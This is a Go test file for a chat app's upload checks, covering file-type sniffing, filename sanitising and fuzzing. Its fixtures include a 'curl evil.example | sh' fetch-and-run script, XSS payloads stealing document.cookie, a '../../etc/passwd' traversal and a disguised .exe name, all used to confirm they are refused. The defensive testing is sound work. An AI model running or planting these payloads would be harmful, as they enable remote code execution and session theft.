package upload

import (
	"archive/zip"
	"bytes"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"path"
	"strings"
	"testing"

	"github.com/switchboard-chat/switchboard/internal/chat"
)

// Real files built in the test, so the signatures are what encoders write.
func samplePNG(t testing.TB) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func sampleJPEG(t testing.TB) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1)), nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func sampleGIF(t testing.TB) []byte {
	var b bytes.Buffer
	if err := gif.Encode(&b, image.NewPaletted(image.Rect(0, 0, 1, 1), color.Palette{color.Black}), nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// sampleZip writes entries in order; the first is stored uncompressed, as
// ODF requires for its mimetype entry.
func sampleZip(t testing.TB, entries ...[2]string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i, e := range entries {
		method := zip.Deflate
		if i == 0 {
			method = zip.Store
		}
		f, err := w.CreateHeader(&zip.FileHeader{Name: e[0], Method: method})
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(e[1]))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func samples(t testing.TB) map[string][]byte {
	return map[string][]byte{
		"png":         samplePNG(t),
		"jpeg":        sampleJPEG(t),
		"gif":         sampleGIF(t),
		"webp":        []byte("RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00\x30\x01\x00\x9d\x01\x2a\x01\x00\x01\x00"),
		"pdf":         []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
		"text":        []byte("hello, world\nsecond line\n"),
		"csv":         []byte("name,email\nAda,ada@example.com\n"),
		"mp3":         []byte("ID3\x04\x00\x00\x00\x00\x00\x00\xff\xfb\x90\x64"),
		"mp3f":        []byte("\xff\xfb\x90\x64\x00\x00\x00\x00\x00\x00"),
		"ogg":         append(append([]byte("OggS\x00\x02"), make([]byte, 22)...), "OpusHead\x01\x01"...),
		"wav":         []byte("RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00"),
		"webm":        []byte("\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm\x42\x87\x81\x04"),
		"mp4":         []byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom\x00\x00\x00\x08free"),
		"mov":         []byte("\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00qt  \x00\x00\x00\x08wide"),
		"m4a":         []byte("\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A mp42isom\x00\x00\x00\x08free"),
		"heic":        []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"),
		"zip":         sampleZip(t, [2]string{"notes.txt", "hi"}),
		"docx":        sampleZip(t, [2]string{"[Content_Types].xml", "<Types/>"}, [2]string{"word/document.xml", "<w:document/>"}),
		"odt":         sampleZip(t, [2]string{"mimetype", typeODT}, [2]string{"content.xml", "<office/>"}),
		"html":        []byte("<!DOCTYPE html><html><body><script>alert(document.cookie)</script>"),
		"htmlcomment": []byte("<!-- x --><img src=x onerror=alert(1)>"),
		"svg":         []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		"svgxml":      []byte("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
		"xml":         []byte("<?xml version=\"1.0\"?><?xml-stylesheet href=\"x.xsl\"?><doc/>"),
		"elf":         append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 56)...),
		"pe":          append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), make([]byte, 54)...),
		"macho":       []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00"),
		"shell":       []byte("#!/bin/sh\ncurl evil.example | sh\n"),
		"wasm":        []byte("\x00asm\x01\x00\x00\x00"),
		"gzip":        []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"),
		"binary":      {0x00, 0x01, 0x02, 0x03, 0xfe, 0xff, 0x10, 0x11},
		"empty":       {},
	}
}

func TestSniff(t *testing.T) {
	s := samples(t)
	ok := []struct {
		name, declared, sample, want string
	}{
		{"photo.png", "image/png", "png", "image/png"},
		{"photo.PNG", "", "png", "image/png"},
		{"photo", "", "png", "image/png"},
		{"photo.png", "application/octet-stream", "png", "image/png"},
		{"IMG_0001.JPG", "image/jpg", "jpeg", "image/jpeg"},
		{"a.gif", "image/gif", "gif", "image/gif"},
		{"sticker.webp", "image/webp", "webp", "image/webp"},
		{"invoice.pdf", "application/pdf", "pdf", "application/pdf"},
		{"notes.txt", "text/plain", "text", "text/plain; charset=utf-8"},
		{"server.log", "", "text", "text/plain; charset=utf-8"},
		{"README", "", "text", "text/plain; charset=utf-8"},
		{"contacts.csv", "text/csv", "csv", "text/csv; charset=utf-8"},
		{"contacts.csv", "application/vnd.ms-excel", "csv", "text/csv; charset=utf-8"},
		{"song.mp3", "audio/mpeg", "mp3", "audio/mpeg"},
		{"song.mp3", "audio/mp3", "mp3f", "audio/mpeg"},
		{"voice.ogg", "audio/ogg; codecs=opus", "ogg", "audio/ogg"},
		{"voice.opus", "audio/opus", "ogg", "audio/ogg"},
		{"memo.wav", "audio/x-wav", "wav", "audio/wav"},
		{"clip.webm", "video/webm", "webm", "video/webm"},
		{"voice.webm", "audio/webm", "webm", "audio/webm"},
		{"clip.mp4", "video/mp4", "mp4", "video/mp4"},
		{"clip.mov", "video/quicktime", "mov", "video/quicktime"},
		{"clip.mp4", "video/mp4", "mov", "video/quicktime"},
		{"memo.m4a", "audio/x-m4a", "m4a", "audio/mp4"},
		{"archive.zip", "application/x-zip-compressed", "zip", "application/zip"},
		{"report.docx", "", "docx", typeDOCX},
		{"report.docx", typeDOCX, "zip", typeDOCX}, // parts beyond the head
		{"sheet.xlsx", "application/zip", "zip", typeXLSX},
		{"letter.odt", "", "odt", typeODT},
		{"empty.txt", "", "empty", "text/plain; charset=utf-8"},
	}
	for _, c := range ok {
		t.Run("ok "+c.name+" "+c.sample, func(t *testing.T) {
			got, err := Sniff(c.name, c.declared, s[c.sample])
			if err != nil || got != c.want {
				t.Fatalf("Sniff = %q, %v; want %q", got, err, c.want)
			}
		})
	}

	refused := []struct {
		name, declared, sample string
		code                   chat.Code
		msg                    string
	}{
		// lies
		{"photo.png", "image/png", "html", chat.CodeUnsupported, "content is text/html but it claims to be image/png"},
		{"photo.png", "", "html", chat.CodeUnsupported, "content is text/html but it claims to be a .png file"},
		{"photo.png", "image/png", "pe", chat.CodeUnsupported, "content is application/vnd.microsoft.portable-executable but it claims to be image/png"},
		{"photo.jpg", "", "pdf", chat.CodeUnsupported, "content is application/pdf but it claims to be a .jpg file"},
		{"photo.jpg", "image/jpeg", "png", chat.CodeUnsupported, "content is image/png but it claims to be image/jpeg"},
		{"photo.png", "image/jpeg", "png", chat.CodeUnsupported, "claims to be image/jpeg"},
		{"notes.txt", "", "svg", chat.CodeUnsupported, "content is image/svg+xml but it claims to be a .txt file"},
		{"notes.txt", "", "htmlcomment", chat.CodeUnsupported, "content is text/html"},
		{"notes.txt", "text/plain", "elf", chat.CodeUnsupported, "content is application/x-executable"},
		{"notes", "text/html", "text", chat.CodeUnsupported, "content is text/plain but it claims to be text/html"},
		{"notes", "application/javascript", "text", chat.CodeUnsupported, "claims to be application/javascript"},
		{"song.mp3", "", "png", chat.CodeUnsupported, "claims to be a .mp3 file"},
		{"archive.zip", "", "shell", chat.CodeUnsupported, "content is text/x-shellscript"},
		{"photo.png", "", "empty", chat.CodeUnsupported, "content is text/plain"},
		// active or executable, honestly named
		{"page.html", "text/html", "html", chat.CodeUnsupported, ".html files are not accepted"},
		{"page", "", "html", chat.CodeUnsupported, "type text/html are not accepted"},
		{"logo.svg", "image/svg+xml", "svg", chat.CodeUnsupported, ".svg files are not accepted"},
		{"logo", "", "svgxml", chat.CodeUnsupported, "type image/svg+xml"},
		{"data", "", "xml", chat.CodeUnsupported, "type text/xml"},
		{"tool", "", "elf", chat.CodeUnsupported, "application/x-executable"},
		{"setup.exe", "", "pe", chat.CodeUnsupported, ".exe files are not accepted"},
		{"tool", "", "macho", chat.CodeUnsupported, "application/x-mach-binary"},
		{"install", "", "shell", chat.CodeUnsupported, "text/x-shellscript"},
		{"mod", "", "wasm", chat.CodeUnsupported, "application/wasm"},
		{"run.bat", "", "text", chat.CodeUnsupported, ".bat files are not accepted"},
		{"app.js", "", "text", chat.CodeUnsupported, ".js files are not accepted"},
		{"invoice.pdf.exe", "application/pdf", "pdf", chat.CodeUnsupported, ".exe files are not accepted"},
		{"config.yaml", "", "text", chat.CodeUnsupported, "text files are accepted only as"},
		{"photo.heic", "image/heic", "heic", chat.CodeUnsupported, "type image/heic"},
		{"a.tar.gz", "", "gzip", chat.CodeUnsupported, "are not accepted"},
		{"blob.bin", "", "binary", chat.CodeUnsupported, "application/octet-stream are not accepted"},
		{"photo.png", "image/png; charset", "png", chat.CodeInvalid, "not a valid media type"},
	}
	for _, c := range refused {
		t.Run("refuse "+c.name+" "+c.sample, func(t *testing.T) {
			got, err := Sniff(c.name, c.declared, s[c.sample])
			if !chat.IsCode(err, c.code) {
				t.Fatalf("Sniff = %q, %v; want %s", got, err, c.code)
			}
			if !strings.Contains(err.(*chat.Error).Message, c.msg) {
				t.Fatalf("message %q does not contain %q", err.(*chat.Error).Message, c.msg)
			}
		})
	}
}

func TestSanitizeName(t *testing.T) {
	long := strings.Repeat("é", 150) + ".pdf"
	cases := []struct{ in, want string }{
		{"photo.png", "photo.png"},
		{"../../etc/passwd", "passwd"},
		{`C:\Users\ada\report.docx`, "report.docx"},
		{"/abs/path/x.txt", "x.txt"},
		{"a\x00b\x1fc\x7f.txt", "abc.txt"},
		{"line\nbreak.txt", "linebreak.txt"},
		{"invoice\u202egpj.exe", "invoicegpj.exe"},
		{"zero\u200bwidth.txt", "zerowidth.txt"},
		{`what?<is>"this"|*:.txt`, "what__is__this____.txt"},
		{" .hidden. ", "hidden"},
		{"..", "file"},
		{"", "file"},
		{"dir/", "file"},
		{"bad\xffutf8.txt", "bad_utf8.txt"},
		{"日本語のファイル.pdf", "日本語のファイル.pdf"},
	}
	for _, c := range cases {
		if got := SanitizeName(c.in); got != c.want {
			t.Errorf("SanitizeName(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	got := SanitizeName(long)
	if len(got) > maxNameLen || !strings.HasSuffix(got, ".pdf") || !strings.HasPrefix(got, "éé") {
		t.Errorf("long name became %q (%d bytes)", got, len(got))
	}
}

func FuzzSniff(f *testing.F) {
	for _, b := range samples(f) {
		f.Add("file.bin", "", b)
	}
	f.Add("photo.png", "image/png", []byte("<html>"))
	f.Add("a.txt", "text/plain; charset=utf-8", []byte("hello"))
	f.Fuzz(func(t *testing.T, name, declared string, head []byte) {
		got, err := Sniff(name, declared, head)
		if err != nil {
			if c := chat.ErrorCode(err); c != chat.CodeUnsupported && c != chat.CodeInvalid {
				t.Fatalf("unexpected error %v", err)
			}
			return
		}
		base, _, _ := strings.Cut(got, ";")
		if !accepted[base] {
			t.Fatalf("Sniff returned a type outside the accepted list: %q", got)
		}
		// Whatever the name and claim, active content never gets in.
		switch detect(head) {
		case typeHTML, typeSVG, typeXML, typeELF, typePE, typeMachO, typeJavaClass, typeWasm, typeScript:
			t.Fatalf("Sniff accepted %s content as %q", detect(head), got)
		}
		if dangerousExt[strings.ToLower(path.Ext(SanitizeName(name)))] {
			t.Fatalf("Sniff accepted dangerous name %q", name)
		}
	})
}
